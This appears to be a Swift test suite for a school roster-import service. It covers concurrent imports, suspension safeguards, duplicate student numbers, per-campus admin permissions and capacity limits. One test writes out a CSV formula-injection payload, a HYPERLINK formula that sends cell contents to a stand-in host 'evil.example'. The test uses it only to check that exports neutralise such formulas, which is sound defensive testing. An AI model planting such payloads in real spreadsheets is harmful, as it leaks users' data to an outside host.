import ProvostCore
import ProvostService
import ProvostStore
import Testing

extension RealRooms {
    /// Rosters as the daemon takes them, into a real store.
    @Suite struct RosterTests {
        private func take(
            _ home: Home, _ text: String, into cohort: Slug = Home.cohort, as principal: Principal = Home.root,
            sync: Bool = false,
            dryRun: Bool = false, confirmed: Bool = false
        ) async throws -> RosterReport {
            let file = try await home.provost.rosters.begin(principal, cohort: cohort)
            try file.append(Array(text.utf8))
            return try await home.provost.rosters.importRoster(
                principal, cohort: cohort, file: file, role: .learner, sync: sync, dryRun: dryRun, confirmed: confirmed)
        }

        private func people(_ home: Home, _ cohort: Slug = Home.cohort, suspended: Bool = false) async throws -> [String] {
            try await home.store.enrollments(cohort: cohort).filter { $0.suspended == suspended }.map(\.person.slug.text).sorted()
        }

        @Test func importsAtTheSameInstantMakeNobodyTwice() async throws {
            try await Home.with { home in
                let text = "학번,이름\n" + (0..<200).map { "n\($0),Name \($0)\n" }.joined()
                // Of one cohort the second waits for nobody and is told so; of two cohorts both are taken, with the same people.
                let autumn = Slug(trusted: "autumn")
                let refusals = await withTaskGroup(of: (any Error)?.self, returning: [(any Error)?].self) { group in
                    for number in 0..<8 {
                        group.addTask {
                            do { _ = try await take(home, text, into: number % 2 == 0 ? Home.cohort : autumn) } catch {
                                return error
                            }
                            return nil
                        }
                    }
                    return await group.reduce(into: []) { $0.append($1) }
                }
                #expect(refusals.contains { $0 == nil })
                for case let error? in refusals {
                    let refusal = try #require(error as? ProvostError)
                    #expect(refusal.code == .conflict && refusal.message.contains("is being imported; wait"), "\(refusal)")
                }
                // Whatever was refused is done by doing it again, and what was done stays the same.
                for cohort in [Home.cohort, autumn] {
                    _ = try await take(home, text, into: cohort)
                    let again = try await take(home, text, into: cohort)
                    #expect(again.same == 200 && again.new == 0 && again.changed == 0)
                    #expect(try await people(home, cohort).count == 200)
                }
                #expect(try await home.store.persons().count == 200)
                #expect(try await home.store.verifyAudit().brokenAt == nil)
            }
        }

        @Test func whoeverWouldSuspendMostOfACohortSaysSo() async throws {
            try await Home.with { home in
                let teacher = try await home.join("teacher", .instructor)
                _ = try await take(home, "login\na\nb\nc\nd\n")
                let wrong = "login\nsomebody\nelse\n"
                // To look is free; to do it takes a word.
                #expect(try await take(home, wrong, sync: true, dryRun: true).suspended == 4)
                await expectFailure(.conflict, "would suspend 4 of the 4 who have a place in spring") {
                    _ = try await take(home, wrong, sync: true)
                }
                await expectFailure(.conflict, "would suspend 3 of the 4") { _ = try await take(home, "login\na\n", sync: true) }
                // Nothing was half done: nobody suspended, nobody new.
                #expect(try await people(home) == ["a", "b", "c", "d", "teacher"])
                #expect(try await home.store.persons().count == 5)
                // Half is ordinary, and without --sync nobody goes.
                _ = try await take(home, wrong)
                #expect(try await take(home, "login\na\nb\nsomebody\n", sync: true).suspended == 3)
                #expect(try await people(home, suspended: true) == ["c", "d", "else"])
                #expect(try await take(home, "login\nnew\n", sync: true, confirmed: true).suspended == 3)
                #expect(try await people(home) == ["new", "teacher"])
                // Nobody is deleted, and nobody of another role is touched.
                #expect(try await home.store.enrollments(cohort: Home.cohort).count == 8)
                #expect(teacher.role(in: Home.cohort) == .instructor)
            }
        }

        @Test func aNumberThatStandsTwiceIsNamedAndNothingIsTaken() async throws {
            try await Home.with { home in
                await expectFailure(.invalid, "line 4: student number “007”") {
                    _ = try await take(home, "학번,이름\n007,Kim\n008,Lee\n007,Park\n")
                }
                let taken = try await home.store.persons()
                #expect(taken.isEmpty)
                // 7 is another number than 007, and both are one with spaces around them.
                #expect(try await take(home, "학번\n007\n7\n").new == 2)
                await expectFailure(.invalid, "line 3") { _ = try await take(home, "학번\n 007\n007 \n") }
                // A number under somebody else's login is a mistake of its line.
                await expectFailure(.conflict, "line 2: other has the student number “007”") {
                    _ = try await take(home, "학번,login\n007,other\n")
                }
                #expect(try await people(home).count == 2)
            }
        }

        /// What a spreadsheet would run stays text, and is stored as it was written.
        @Test func formulasAreTextWhereSpreadsheetsReadThem() async throws {
            try await Home.with { home in
                let evil = "=HYPERLINK(\"\"http://evil.example?\"\"&A1)"
                let text = "login,name,section\nminji,\"\(evil)\",@SUM(1)\njun,+1+1,-2\nsua,\"\t=1\",A\n"
                #expect(try await take(home, text).new == 3)
                let stored = try await home.store.enrollments(cohort: Home.cohort)
                #expect(stored.map(\.person.name).contains("=HYPERLINK(\"http://evil.example?\"&A1)"))
                let table = try await home.provost.reports.gradebook(Home.root, cohort: Home.cohort).table()
                for cell in table.split(whereSeparator: { $0 == "," || $0 == "\n" || $0 == "\r\n" }) {
                    let bare = cell.drop { $0 == "\"" }
                    #expect(bare.first.map { !"=+-@\t".contains($0) } ?? true, "\(cell)")
                }
                #expect(table.contains("'+1+1") && table.contains("'@SUM(1)"))
            }
        }

        @Test func aCampusAdminImportsIntoTheirCampusAlone() async throws {
            try await Home.with { home in
                try await Academy.open(in: home)
                let head = try await Academy.head(of: Academy.north, in: home)
                _ = try await take(home, "학번,login,이름\n1,jun,Jun\n", into: Academy.south)
                await expectFailure(.denied) { _ = try await take(home, "login\nx\n", into: Academy.south, as: head) }
                await expectFailure(.denied) {
                    _ = try await take(home, "login\nx\n", into: Academy.south, as: head, dryRun: true)
                }
                // Nobody of the south is taken over, renamed or found out about by their login; the same number is somebody else.
                await expectFailure(.conflict, "is in a cohort that is not yours") {
                    _ = try await take(home, "login,이름\njun,Stolen\n", into: Academy.north, as: head)
                }
                let own = try await take(home, "학번,이름\n1,Other\n", into: Academy.north, as: head)
                #expect(own.new == 1 && own.changes[0].person.text != "jun")
                #expect(try await home.store.person(Slug(trusted: "jun")).name == "Jun")
                await expectFailure(.denied) { _ = try await home.provost.people.enrollments(head, cohort: Academy.south) }
                await expectFailure(.denied) {
                    _ = try await home.provost.rosters.codes(head, cohort: Academy.south, people: nil, after: 0)
                }
                #expect(try await people(home, Academy.south) == ["jun"])
            }
        }

        /// Who makes a code for somebody can be that somebody, and in charge of all that they are in charge of.
        @Test func whoeverIsInChargeOfACohortDoesNotTakeOverACampus() async throws {
            try await Home.with { home in
                try await Academy.open(in: home)
                let boss = try await home.join("boss", .admin)
                let head = try await Academy.head(of: Academy.south, in: home)
                let name = Slug(trusted: "head-south")
                await expectFailure(.denied, "in charge of an organization") {
                    _ = try await home.provost.people.enroll(
                        boss, cohort: Home.cohort, slug: name, name: nil, email: nil, role: .learner)
                }
                let codes = try await home.provost.rosters.codes(boss, cohort: Home.cohort, people: [name], after: 0)
                #expect(codes.codes.isEmpty && codes.withheld == [name])
                await expectFailure(.conflict, "in charge of an organization") {
                    _ = try await take(home, "login,이름\nhead-south,Stolen\n", as: boss)
                }
                #expect(try await home.store.person(name).name == "head-south")
                // Themselves they may, and an administrator may.
                _ = try await home.provost.people.enroll(
                    head, cohort: Academy.south, slug: name, name: nil, email: nil, role: .learner)
                _ = try await home.provost.people.enroll(
                    Home.root, cohort: Home.cohort, slug: name, name: nil, email: nil, role: .learner)
            }
        }

        @Test func capacityHoldsDuringAnImport() async throws {
            try await Home.with { home in
                try await Academy.open(in: home, capacity: 3)
                _ = try await take(home, "login\na\nb\n", into: Academy.north)
                await expectFailure(.limitReached, "would have 4 learners, and its program takes 3") {
                    _ = try await take(home, "login\nc\nd\n", into: Academy.north)
                }
                await expectFailure(.limitReached) {
                    _ = try await take(home, "login\nc\nd\n", into: Academy.north, dryRun: true)
                }
                #expect(try await people(home, Academy.north) == ["a", "b"])
                // Places of those who go are free, to the last one.
                #expect(try await take(home, "login\na\nc\nd\n", into: Academy.north, sync: true).suspended == 1)
                #expect(try await people(home, Academy.north) == ["a", "c", "d"])
                // Somebody is enrolled by hand while a roster is on its way: whichever comes last finds no place.
                let full = await withTaskGroup(of: Bool.self, returning: Int.self) { group in
                    for name in ["x", "y", "z", "w"] {
                        group.addTask { (try? await take(home, "login\n\(name)\n", into: Academy.south)) != nil }
                        group.addTask { (try? await home.join("\(name)-2", cohort: Academy.south)) != nil }
                    }
                    return await group.reduce(into: 0) { $0 += $1 ? 1 : 0 }
                }
                #expect(full <= 3)
                #expect(try await people(home, Academy.south).count <= 3)
            }
        }
    }
}
